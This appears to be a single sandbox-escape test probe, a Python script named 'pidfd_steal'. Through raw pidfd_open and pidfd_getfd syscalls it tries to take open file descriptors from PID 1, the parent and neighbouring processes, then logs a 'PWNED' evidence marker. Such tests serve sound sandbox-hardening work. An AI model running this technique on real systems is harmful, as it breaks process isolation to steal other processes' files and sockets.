# attack: pidfd_steal
# kind: leak   task: any   naive: run
# attempts: take another process's descriptors by pidfd_getfd
import os

def evidence(found="yes"):
    said = f"PWNED pidfd_steal {found}"[:200].encode("utf-8", "replace") + b"\n"
    try:
        os.write(1, said)
        os.write(os.open("/tmp/sbx_evidence/pidfd_steal", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666), said)
    except OSError:
        pass

import ctypes

libc = ctypes.CDLL(None, use_errno=True)

def call(number, *args):  # x86-64 numbers
    ctypes.set_errno(0)
    return libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, args)), ctypes.get_errno()

for pid in {1, os.getppid(), *range(max(2, os.getppid() - 20), os.getppid() + 20)} - {os.getpid()}:
    handle, _ = call(434, pid, 0)
    if handle >= 0:
        for fd in range(16):
            if call(438, handle, fd, 0)[0] >= 0:
                evidence(f"descriptor {fd} of process {pid}")
                break
